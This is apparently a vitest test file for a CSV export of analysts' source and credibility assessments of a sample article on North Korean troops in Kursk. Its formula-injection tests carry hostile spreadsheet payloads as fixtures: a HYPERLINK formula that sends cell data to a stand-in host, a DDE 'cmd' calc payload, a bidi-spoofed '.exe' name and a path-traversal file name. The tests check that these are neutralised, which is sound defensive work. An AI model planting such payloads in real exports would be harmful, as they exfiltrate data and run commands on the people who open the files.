import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { kurskCaseBrief } from '../brief/kursk-case.fixture'
import { kurskBrief, segmentSample, sources } from '../brief/kursk.fixture'
import type { BriefInput } from '../brief/model'
import type { Article, Assessment } from '../model'
import { CREDIBILITY_LABELS, RELIABILITY_LABELS } from '../scales'
import { normaliseText } from '../text'
import {
  ASSESSMENT_CSV_COLUMNS,
  ASSESSMENT_CSV_FREE_TEXT,
  assessmentsCsv,
  assessmentsCsvFileName,
  csvField,
  freeTextCell,
  isFormula,
  type AssessmentCsvColumn
} from './csv'

const SAMPLE = normaliseText(
  readFileSync(new URL('../../../resources/samples/dprk-kursk.txt', import.meta.url), 'utf8')
)

/** RFC 4180, strictly: CRLF between records, quotes only around whole fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let i = 0
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i++
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field')
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"'
            i += 2
            continue
          }
          i++
          break
        }
        field += text[i++]
      }
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        throw new Error(`text after a closing quote at ${i}`)
      }
      continue
    }
    if (text[i] === ',') {
      row.push(field)
      field = ''
      i++
    } else if (text[i] === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`)
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i += 2
    } else if (text[i] === '\n') {
      throw new Error(`bare LF at ${i}`)
    } else if (text[i] === '"') {
      throw new Error(`quote inside an unquoted field at ${i}`)
    } else {
      field += text[i++]
    }
  }
  if (field !== '' || row.length > 0) throw new Error('last record without CRLF')
  return rows
}

function table(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''))
  for (const row of rows) expect(row).toHaveLength(header.length)
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])))
}

const input = kurskBrief(SAMPLE)
const csv = assessmentsCsv(input)
const rows = table(csv)
const byId = (id: string): Record<string, string> => rows.find((r) => r.sentence_id === id)!

describe('assessmentsCsv', () => {
  it('starts with a UTF-8 byte-order mark and the header', () => {
    const bytes = new TextEncoder().encode(csv)
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(csv.slice(1, csv.indexOf('\r\n'))).toBe(ASSESSMENT_CSV_COLUMNS.join(','))
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  it('has one row per sentence, headings and ungraded ones included, in reading order', () => {
    const { article, sentences } = input.articles[0]
    expect(rows).toHaveLength(sentences.length)
    rows.forEach((row, i) => {
      const s = sentences[i]
      expect(row.sentence_id).toBe(s.id)
      expect(row.sentence_index).toBe(String(i + 1))
      expect(row.kind).toBe(s.kind)
      expect(row.text).toBe(article.text.slice(s.start, s.end))
      expect(row.article_title).toBe('North Korean troops withdraw from Kursk after heavy losses')
      expect(row.article_id).toBe('dprk')
    })
    expect(rows.filter((r) => r.kind === 'heading').map((r) => r.text)).toContain(
      'North Korea’s Military Losses in Russia'
    )
  })

  it('writes a graded sentence with the exact scale labels, its sources and its corroboration', () => {
    expect(byId('dprk:0')).toMatchObject({
      rating: 'B1',
      source: 'Col. Oleksandr Kindratenko',
      source_kind: 'military',
      reliability: 'B',
      reliability_label: 'Usually reliable',
      credibility: '1',
      credibility_label: 'Confirmed by other sources',
      claim_type: 'claim',
      role: 'paraphrase',
      other_sources: 'CNN',
      corroboration: 'circular',
      corroboration_derived: 'circular',
      override_reason: '',
      supports: '1',
      contradicts: '0',
      judgments: '',
      updated_at: '2026-11-26T09:00:00.000Z'
    })
    expect(byId('dprk:1')).toMatchObject({ rating: 'B2', corroboration: 'corroborated', supports: '1' })
    expect(byId('dprk:5')).toMatchObject({
      rating: 'F3',
      reliability_label: 'Reliability cannot be judged',
      credibility_label: 'Possibly true',
      other_sources: 'Western intelligence reports',
      supports: '1'
    })
    expect(byId('dprk:9')).toMatchObject({
      source: 'Russian Ministry of Defence',
      reliability_label: 'Not usually reliable',
      credibility_label: 'Doubtful',
      corroboration: 'contested',
      contradicts: '1'
    })
    expect(byId('dprk:16')).toMatchObject({ rating: 'B-', credibility: '', claim_type: 'context' })
    for (const row of rows) {
      if (row.reliability) expect(row.reliability_label).toBe(RELIABILITY_LABELS[row.reliability as 'A'])
      if (row.credibility)
        expect(row.credibility_label).toBe(CREDIBILITY_LABELS[Number(row.credibility) as 1])
    }
  })

  it('lists every linked item in the evidence column: support, contradiction, context and citations', () => {
    expect(byId('dprk:9').evidence).toBe(
      'contradicts: “Ukrainian forces continue to hold positions in the Kursk region, the General Staff said on Monday.” [C3] in Ukraine still holds ground in Kursk, General Staff says (General Staff of the Armed Forces of Ukraine)'
    )
    expect(byId('dprk:5').evidence).toBe(
      'supports: Yonhap: NIS says 300 North Korean soldiers killed, 2,700 injured <https://en.yna.co.kr/view/AEN20250113003500315> (Yonhap News Agency | 연합뉴스), accessed 2025-02-01'
    )
    expect(byId('dprk:7').evidence).toBe(
      'context: “The North Korean troops were reportedly stationed in the Kursk region, where they were aiding Russia’s military efforts against Ukraine.”'
    )
    expect(byId('dprk:6').evidence).toMatch(/^gives context to: “However, Ukraine’s recent advances in Kursk/)
    expect(byId('dprk:1').evidence.split('\n')).toHaveLength(1)
    expect(byId('dprk:10').evidence).toBe('')
  })

  it('names the key judgments that cite a sentence, by number and relation, across the case', () => {
    const cited = table(assessmentsCsv(kurskCaseBrief(SAMPLE)))
    const judgmentsOf = (id: string): string | undefined => cited.find((r) => r.sentence_id === id)?.judgments
    expect(judgmentsOf('dprk:1')).toBe('1 supports')
    expect(judgmentsOf('seoul:0')).toBe('1 supports')
    expect(judgmentsOf('seoul:4')).toBe('1 contradicts')
    expect(judgmentsOf('dprk:5')).toBe('2 supports')
    expect(judgmentsOf('dprk:9')).toBe('3 supports')
    expect(cited.filter((r) => r.judgments !== '').map((r) => r.sentence_id)).toEqual([
      'dprk:1',
      'dprk:5',
      'dprk:9',
      'seoul:0',
      'seoul:2',
      'seoul:4'
    ])
  })

  it('leaves the letter of a source not graded yet empty and says so, never F', () => {
    const ungraded = table(
      assessmentsCsv({
        ...input,
        sources: input.sources.map((s) => (s.id === 'src-podolyak' ? { ...s, reliability: null } : s))
      })
    )
    expect(ungraded.find((r) => r.sentence_id === 'dprk:3')).toMatchObject({
      rating: '?3',
      source: 'Mykhailo Podolyak',
      reliability: '',
      reliability_label: 'source not graded yet',
      credibility: '3'
    })
  })

  it('leaves the grading cells of an ungraded sentence empty, and a heading not applicable', () => {
    const ungraded = byId('dprk:6')
    expect(ungraded).toMatchObject({
      rating: '',
      source: '',
      reliability: '',
      credibility: '',
      claim_type: '',
      judgments: '',
      note: '',
      updated_at: '',
      corroboration: 'uncorroborated'
    })
    expect(rows.find((r) => r.kind === 'heading')).toMatchObject({ corroboration: 'not-applicable' })
  })

  it('quotes commas, quotes and newlines and keeps typographic punctuation intact', () => {
    expect(byId('dprk:1').note).toBe('Compare *ISW* map [26 Jan] | <b>Sudzha</b>\nsecond line')
    expect(csv).toContain('"Compare *ISW* map [26 Jan] | <b>Sudzha</b>\nsecond line"')
    const quote = byId('dprk:2').text
    expect(quote.startsWith('“The presence of DPRK troops')).toBe(true)
    expect(csv).toContain(`"${quote}"`)
    expect(csvField('He said "no", then left')).toBe('"He said ""no"", then left"')
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a\r\nb')).toBe('"a\r\nb"')
  })

  it('writes an override with its reason beside the derived status', () => {
    const overridden = kurskBrief(SAMPLE)
    const a = overridden.articles[0].assessments.find((x) => x.sentenceId === 'dprk:0')!
    a.corroborationOverride = { status: 'corroborated', reason: 'Confirmed by satellite imagery, 2 Feb' }
    a.tags = ['troops', 'DPRK']
    expect(table(assessmentsCsv(overridden)).find((r) => r.sentence_id === 'dprk:0')).toMatchObject({
      corroboration: 'corroborated',
      corroboration_derived: 'circular',
      override_reason: 'Confirmed by satellite imagery, 2 Feb',
      tags: 'troops; DPRK'
    })
  })
})

describe('assessmentsCsv against formula injection', () => {
  const hostileText = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for the map")',
    '+1 soldiers were reported.',
    '-2 is the count the ministry gave.',
    '@SUM(A1:A9) is not a sentence.',
    'Ukrainian officials said so.',
    'Russian officials denied it.'
  ].join('\n')
  const article: Article = {
    id: 'hostile',
    title: "=cmd|' /C calc'!A0",
    language: 'en',
    text: hostileText,
    importedAt: '2026-11-26T09:00:00.000Z',
    origin: { kind: 'paste', sha256: '0'.repeat(64) }
  }
  const sentences = segmentSample('hostile', hostileText)
  const notes = [
    '=1+1',
    '-2+3',
    '-SUM(A1:A9)',
    '@SUM(1,2)',
    '\tindented',
    '\rcarriage',
    '-12 km',
    '+1',
    '-12 km north-west of Sudzha.',
    '- not confirmed',
    '\u202e=1+1'
  ]
  const assessments: Assessment[] = notes.map((note, i) => ({
    sentenceId: sentences[i % sentences.length].id,
    articleId: 'hostile',
    attributions: [{ sourceId: 'src-cnn', role: 'reported' }],
    credibility: 3,
    claimType: 'claim',
    note,
    tags: ['-tag'],
    target: { exact: '' },
    updatedAt: '2026-11-26T09:00:00.000Z'
  }))
  const hostile: BriefInput = {
    title: 'Hostile',
    generatedAt: '2026-11-26T09:00:00.000Z',
    articles: [{ article, sentences, assessments: assessments.slice(0, sentences.length), links: [] }],
    sources
  }
  const out = assessmentsCsv(hostile)
  const t = table(out)

  it('prefixes free text a spreadsheet would run as a formula with an apostrophe', () => {
    expect(t.map((r) => r.text).slice(0, 4)).toEqual([
      `'${hostileText.split('\n')[0]}`,
      '+1 soldiers were reported.',
      '-2 is the count the ministry gave.',
      "'@SUM(A1:A9) is not a sentence."
    ])
    expect(t[0].article_title).toBe("'=cmd|' /C calc'!A0")
    expect(t[0].tags).toBe("'-tag")
  })

  it('neutralises formulas and leaves a signed quantity such as -12 km as the analyst wrote it', () => {
    const cells = notes.map((note) => freeTextCell(note))
    expect(cells).toEqual([
      "'=1+1",
      "'-2+3",
      "'-SUM(A1:A9)",
      "'@SUM(1,2)",
      "'\tindented",
      "'\rcarriage",
      '-12 km',
      '+1',
      '-12 km north-west of Sudzha.',
      "'- not confirmed",
      "'=1+1"
    ])
    expect(t.map((r) => r.note)).toEqual(cells.slice(0, sentences.length))
    for (const quantity of ['-5', '+3.5', '-12%', '-1,200 troops', '+7 km; 3 km']) {
      expect(isFormula(quantity), quantity).toBe(false)
    }
    for (const formula of ['-12 km =HYPERLINK("x")', '-1 (2)', '+1|cmd', '-A1', '-2 -3', '-12 %', '+"x"']) {
      expect(isFormula(formula), formula).toBe(true)
    }
  })

  it('still quotes a neutralised formula that holds quotes and commas', () => {
    expect(out).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click for the map"")"')
    expect(csvField("'\r=1")).toBe('"\'\r=1"')
    expect(csvField('a=1')).toBe('a=1')
  })

  it('writes controlled columns as they are: a rating without a source stays -5, sortable', () => {
    const unsourced = kurskBrief(SAMPLE)
    const a = unsourced.articles[0].assessments.find((x) => x.sentenceId === 'dprk:1')!
    a.attributions = []
    a.credibility = 5
    const row = table(assessmentsCsv(unsourced)).find((r) => r.sentence_id === 'dprk:1')!
    expect(row).toMatchObject({ rating: '-5', credibility: '5', source: '', reliability: '' })
    for (const r of rows) {
      for (const column of ASSESSMENT_CSV_COLUMNS.filter((c) => !ASSESSMENT_CSV_FREE_TEXT[c])) {
        expect(r[column], column).not.toMatch(/^'/)
      }
    }
  })

  it('neutralises an id a crafted backup could carry, though ids are controlled', () => {
    const crafted = kurskBrief(SAMPLE)
    crafted.articles[0].article = { ...crafted.articles[0].article, id: '=1+1' }
    expect(table(assessmentsCsv(crafted))[0].article_id).toBe("'=1+1")
  })

  it('removes bidirectional controls from free text, so a note reads in the order it was written', () => {
    const spoofed = kurskBrief(SAMPLE)
    const a = spoofed.articles[0].assessments.find((x) => x.sentenceId === 'dprk:1')!
    a.note = 'Losses: 12 \u200f34 \u200f56, file \u202egpj.exe'
    const row = table(assessmentsCsv(spoofed)).find((r) => r.sentence_id === 'dprk:1')!
    expect(row.note).toBe('Losses: 12 34 56, file gpj.exe')
  })
})

describe('the CSV columns in the README', () => {
  const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8')
  const data = readme.slice(
    readme.indexOf('\n## Your data\n'),
    readme.indexOf('\n## ', readme.indexOf('\n## Your data\n') + 1)
  )
  /** The rows of the table whose first header cell is `column`: name, meaning, values. */
  const documented = data
    .split('\n')
    .filter((line) => /^\| `[a-z_]+` +\|/.test(line))
    .map((line) =>
      line
        .split('|')
        .map((cell) => cell.trim())
        .slice(1, -1)
    )

  it('documents every column of the CSV, in the order of its header', () => {
    expect(documented.map(([name]) => name.replace(/`/g, ''))).toEqual([...ASSESSMENT_CSV_COLUMNS])
  })

  it('says which columns are free text, as the export treats them', () => {
    for (const [name, , values] of documented) {
      const column = name.replace(/`/g, '') as AssessmentCsvColumn
      expect(values.startsWith('free text'), name).toBe(ASSESSMENT_CSV_FREE_TEXT[column])
    }
  })
})

describe('assessmentsCsvFileName', () => {
  it('names the file like the brief, as CSV', () => {
    expect(assessmentsCsvFileName('Brief: Kursk / Sudzha — “status”?', '2026-11-26T15:30:00.000Z')).toBe(
      'assessments-kursk-sudzha-status-2026-11-26.csv'
    )
    expect(assessmentsCsvFileName('../../etc/passwd', 'not a date')).toBe('assessments-etc-passwd.csv')
  })
})
